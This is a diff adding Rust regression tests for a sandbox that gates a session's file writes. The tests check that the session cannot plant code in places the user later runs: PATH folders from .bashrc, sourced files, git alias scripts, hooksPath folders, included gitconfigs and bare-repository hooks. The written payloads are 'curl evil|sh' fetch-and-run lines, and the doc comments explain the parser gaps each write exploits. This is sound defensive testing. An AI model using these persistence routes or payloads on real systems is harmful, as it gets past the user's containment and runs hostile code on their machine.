@@ -6072,3 +6072,215 @@ fn receives_the_users_datagrams_on_a_port_a_bind_to_port_zero_took_in_the_other_
     note(&format!("the session's recv on [::1]:{p}: {r:?}"));
     assert_ne!(r, vec![0], "the session read the user's datagram sent to [::1]:{p}");
 }
+
+// ---------------------------------------------------------------------------------------
+// Eighth pass: where the derivation of the places the user's configuration runs code from
+// ends. The never list names the configuration; `code_places` and `loaded_files` read it
+// for the folders, programs and files it names, in the forms they know. Each test writes
+// the user's configuration in an everyday form they may not read, grants the session the
+// folder where the named place lies, and writes the place from inside.
+
+/// A folder of the home (`~/rtn-NAME-N`) for one test, removed when `c` drops.
+fn home_folder(c: &mut Cleanup, name: &str) -> PathBuf {
+    let top = PathBuf::from(home(&format!("rtn-{name}-{}", uniq())));
+    c.add(&top);
+    udir(top.to_str().unwrap())
+}
+
+/// Plants a command in the folder `~/.bashrc` puts on `PATH` with the `${PATH:+...}` idiom
+/// (`export PATH="$HOME/tools/bin${PATH:+:${PATH}}"`, the form NVIDIA's CUDA guide and many
+/// installers write, so no empty `PATH` part adds the current directory): the user's next
+/// `git` in any shell runs the session's program. Granted: the tools folder. Principle: the
+/// folders a never place's shell lines put on `PATH` are never-changed with it. Why it might
+/// get out: `path_folders` splits the value at `:` only, so the part it reads is
+/// `$HOME/tools/bin${PATH`, which holds a `$` and names nothing.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn plants_a_command_in_a_folder_the_users_shell_puts_on_path_with_the_path_plus_idiom() {
+    let mut c = Cleanup::default();
+    let tools = home_folder(&mut c, "pathplus");
+    let bin = tools.join("bin");
+    make(&bin.join("fmt"), Some("#!/bin/sh\n"));
+    let rc = PathBuf::from(home(".bashrc"));
+    let old = std::fs::read_to_string(&rc).unwrap_or_default();
+    let rel = tools.strip_prefix(HOME).unwrap().display().to_string();
+    let _restore = users_file_for_a_test(&rc, &format!("{old}\nexport PATH=\"$HOME/{rel}/bin${{PATH:+:${{PATH}}}}\"\n"));
+    assert_eq!(ungated(|| vec![open_w(&bin.join("fmt"))]), vec![0], "control: the user writes the folder");
+    let mut red = Red::start("pathplus");
+    red.grant(&tools, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&tools.join("notes.txt"), "x"), create(&bin.join("git"), "#!/bin/sh\ncurl evil|sh\n"), append(&bin.join("fmt"), "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
+    assert!(refused(r[1]) && refused(r[2]), "a command in the folder ~/.bashrc puts on PATH as $HOME/.../bin${{PATH:+:${{PATH}}}}: {r:?}");
+}
+
+/// Writes the file `~/.bashrc` sources on a guarded one-line (`[ -f ~/work/env.sh ] && .
+/// ~/work/env.sh`, the form fzf's and rvm's installers write): the user's next shell runs
+/// what the session put there. Granted: the folder holding it. Principle: a never place's
+/// protection follows what it loads. Why it might get out: `loads_of` follows a line whose
+/// first word is `source` or `.`, and here the first word is `[`. Control: the same file
+/// with `. FILE` alone on its line is followed (`writes_a_file_the_global_gitconfig_includes`
+/// for git's form).
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_the_file_the_users_shell_sources_on_a_guarded_line() {
+    let mut c = Cleanup::default();
+    let work = home_folder(&mut c, "guardsrc");
+    let env = work.join("env.sh");
+    make(&env, Some("export EDITOR=vi\n"));
+    let rc = PathBuf::from(home(".bashrc"));
+    let old = std::fs::read_to_string(&rc).unwrap_or_default();
+    let rel = env.strip_prefix(HOME).unwrap().display().to_string();
+    let _restore = users_file_for_a_test(&rc, &format!("{old}\n[ -f ~/{rel} ] && . ~/{rel}\n"));
+    assert_eq!(ungated(|| vec![open_w(&env)]), vec![0], "control: the user writes the file");
+    let mut red = Red::start("guardsrc");
+    red.grant(&work, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&work.join("notes.txt"), "x"), append(&env, "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside it: {r:?}");
+    assert!(refused(r[1]), "the file ~/.bashrc sources on `[ -f F ] && . F`: {r:?}");
+}
+
+/// Replaces the script a git alias of `~/.gitconfig` runs through an interpreter (`deploy =
+/// !bash ~/work/tools/deploy.sh`, or `!sh`, `!python3`): the user's next `git deploy` runs
+/// it. Granted: the folder holding it. Principle: the program of every key git runs as a
+/// command is never-changed with the configuration. Why it might get out: `code_places`
+/// takes the command's first word (`bash`, found on `PATH`) as the program, and the script
+/// it runs is the second.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn replaces_the_script_a_git_alias_runs_through_an_interpreter() {
+    let mut c = Cleanup::default();
+    let work = home_folder(&mut c, "aliassh");
+    let script = work.join("tools/deploy.sh");
+    make(&script, Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let rel = script.strip_prefix(HOME).unwrap().display().to_string();
+    let _restore = users_file_for_a_test(&gc, &format!("[user]\n\tname = u\n[alias]\n\tdeploy = !bash ~/{rel} --prod\n"));
+    assert_eq!(ungated(|| vec![open_w(&script)]), vec![0], "control: the user writes the script");
+    let mut red = Red::start("aliassh");
+    red.grant(&work, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&work.join("notes.txt"), "x"), append(&script, "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside it: {r:?}");
+    assert!(refused(r[1]), "the script `git deploy` runs (`!bash ~/{rel}`): {r:?}");
+}
+
+/// Writes a hook in the folder a repository's own `.git/config` names as `core.hooksPath`
+/// from the home (`hooksPath = ~/team/hooks`, a team's hooks checkout shared by its
+/// repositories; git expands `~/` there): git runs it at the user's next commit. The
+/// repository is in the session's root, the hooks folder in a home folder the session was
+/// granted. Principle: a repository's `.git/config` protects the places it names as code.
+/// Why it might get out: the repository's configuration is read without the home
+/// (`seed_repository_code` passes none), and a `~/` path then names nothing.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_a_hook_in_the_folder_a_repository_names_as_hooks_path_from_the_home() {
+    let mut c = Cleanup::default();
+    let team = home_folder(&mut c, "teamhooks");
+    let hooks = team.join("hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let rel = hooks.strip_prefix(HOME).unwrap().display().to_string();
+    let mut red = Red::start_with("repohomehooks", |ws| {
+        make(&ws.join("proj/.git/config"), Some(&format!("[core]\n\trepositoryformatversion = 0\n\thooksPath = ~/{rel}\n")));
+    });
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    red.grant(&team, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&team.join("README"), "x"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside the hooks folder: {r:?}");
+    assert!(refused(r[1]) && refused(r[2]), "the hooks folder the repository names as ~/{rel}: {r:?}");
+}
+
+/// Writes a hook in the folder a repository's `.git/config` names as `core.hooksPath` with
+/// `..` (`hooksPath = ../shared-hooks`, hooks kept once beside the repositories of a
+/// workspace; git takes a relative path from the worktree): git runs it at the user's next
+/// commit. Granted: the workspace (the session's root). Principle: as above. Why it might
+/// get out: `path_of` drops every path with `..` rather than resolving it.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_a_hook_in_the_folder_a_repository_names_as_hooks_path_above_its_worktree() {
+    let mut red = Red::start_with("repoupperhooks", |ws| {
+        make(&ws.join("proj/.git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = ../shared-hooks\n"));
+        make(&ws.join("shared-hooks/pre-commit"), Some("#!/bin/sh\n"));
+    });
+    let ws = red.ws.clone();
+    let hooks = ws.join("shared-hooks");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&ws.join("src/main.rs"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("pre-push"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the workspace: {r:?}");
+    assert!(refused(r[1]) && refused(r[2]), "the hooks folder proj/.git/config names as ../shared-hooks: {r:?}");
+}
+
+/// Writes a hook in the visible folder that a repository's `.git/config` names as
+/// `core.hooksPath`, where the repository lies in a home folder the session was granted
+/// rather than in one of its named roots ("also fix the same bug in ~/other-proj"): git
+/// runs it at the user's next commit there. Principle: as above, wherever the grant lies.
+/// Why it might get out: the repositories whose `.git/config` is read for the places it
+/// names are found by the scan of the named roots at session start (`seed_scan`); a grant
+/// elsewhere reaches a repository no scan saw.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_a_hook_in_the_visible_folder_a_repository_outside_the_roots_names() {
+    let mut c = Cleanup::default();
+    let other = home_folder(&mut c, "otherproj");
+    make(&other.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
+    let hooks = other.join("githooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    make(&other.join("src/lib.rs"), Some("\n"));
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    let mut red = Red::start("otherproj");
+    red.grant(&other, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&other.join("src/lib.rs"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the repository: {r:?}");
+    assert!(refused(r[1]) && refused(r[2]), "the hooks folder of a repository in a granted home folder: {r:?}");
+}
+
+/// Writes the file of the worktree that a repository's `.git/config` includes (`git config
+/// include.path ../project.gitconfig`, the usual way to share a repository's settings
+/// through the repository itself), with `core.fsmonitor` in it: git runs that on the user's
+/// next `git status` there. Granted: the workspace. Principle: a never place's protection
+/// follows what it loads. Why it might get out: `loaded_files` follows the includes of the
+/// never places of the home; `**/.git/config` is found by the scan of the roots, which reads
+/// it for the places it names as code but not for what it includes.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_the_file_a_repositorys_config_includes() {
+    let mut red = Red::start_with("repoinclude", |ws| {
+        make(&ws.join("proj/.git/config"), Some("[core]\n\trepositoryformatversion = 0\n[include]\n\tpath = ../project.gitconfig\n"));
+        make(&ws.join("proj/project.gitconfig"), Some("[pull]\n\trebase = true\n"));
+    });
+    let ws = red.ws.clone();
+    let inc = ws.join("proj/project.gitconfig");
+    assert_eq!(ungated(|| vec![open_w(&inc)]), vec![0], "control: the user writes the included file");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&ws.join("proj/.git/config"), "[core]\n\tfsmonitor = evil\n"), append(&ws.join("src/main.rs"), "\n"), append(&inc, "[core]\n\tfsmonitor = curl evil|sh\n")]);
+    assert!(refused(r[0]), "control: the repository's .git/config: {r:?}");
+    assert_eq!(r[1], 0, "control: a file of the workspace: {r:?}");
+    assert!(refused(r[2]), "the file proj/.git/config includes: {r:?}");
+}
+
+/// Writes the hooks and the configuration of a bare repository that the user works in
+/// through `git worktree` (`git clone --bare URL proj.git; git -C proj.git worktree add
+/// ../main`, a common layout for working on several branches at once): the worktree's
+/// `.git` is a file naming `proj.git/worktrees/main`, and git runs `proj.git/hooks/*` and
+/// reads `proj.git/config` (`core.fsmonitor`) for every command there. Granted: the
+/// workspace. Principle: a repository's hooks and configuration are never changed in a
+/// session. Why it might get out: the never list names them as `**/.git/hooks/**` and
+/// `**/.git/config`; a bare repository keeps them in a visible folder of another name.
+/// Gets out on 6.1 and 6.12: the session writes the place.
+#[test]
+fn writes_the_hooks_and_config_of_a_bare_repository_with_a_worktree() {
+    let mut red = Red::start_with("barerepo", |ws| {
+        make(&ws.join("proj.git/HEAD"), Some("ref: refs/heads/main\n"));
+        make(&ws.join("proj.git/config"), Some("[core]\n\trepositoryformatversion = 0\n\tbare = true\n"));
+        make(&ws.join("proj.git/hooks/pre-commit"), Some("#!/bin/sh\n"));
+        make(&ws.join("proj.git/worktrees/main/gitdir"), Some(&format!("{}/main/.git\n", ws.display())));
+        make(&ws.join("main/.git"), Some(&format!("gitdir: {}/proj.git/worktrees/main\n", ws.display())));
+        make(&ws.join("main/src/lib.rs"), Some("\n"));
+    });
+    let ws = red.ws.clone();
+    let bare = ws.join("proj.git");
+    assert_eq!(ungated(|| vec![open_w(&bare.join("config")), open_w(&bare.join("hooks/pre-commit"))]), vec![0, 0], "control: the user writes them");
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&ws.join("main/src/lib.rs"), "\n"), append(&bare.join("config"), "\tfsmonitor = curl evil|sh\n"), append(&bare.join("hooks/pre-commit"), "curl evil|sh\n"), create(&bare.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
+    assert!(r[1..].iter().all(|&e| refused(e)), "the bare repository's config and hooks: {r:?}");
+}
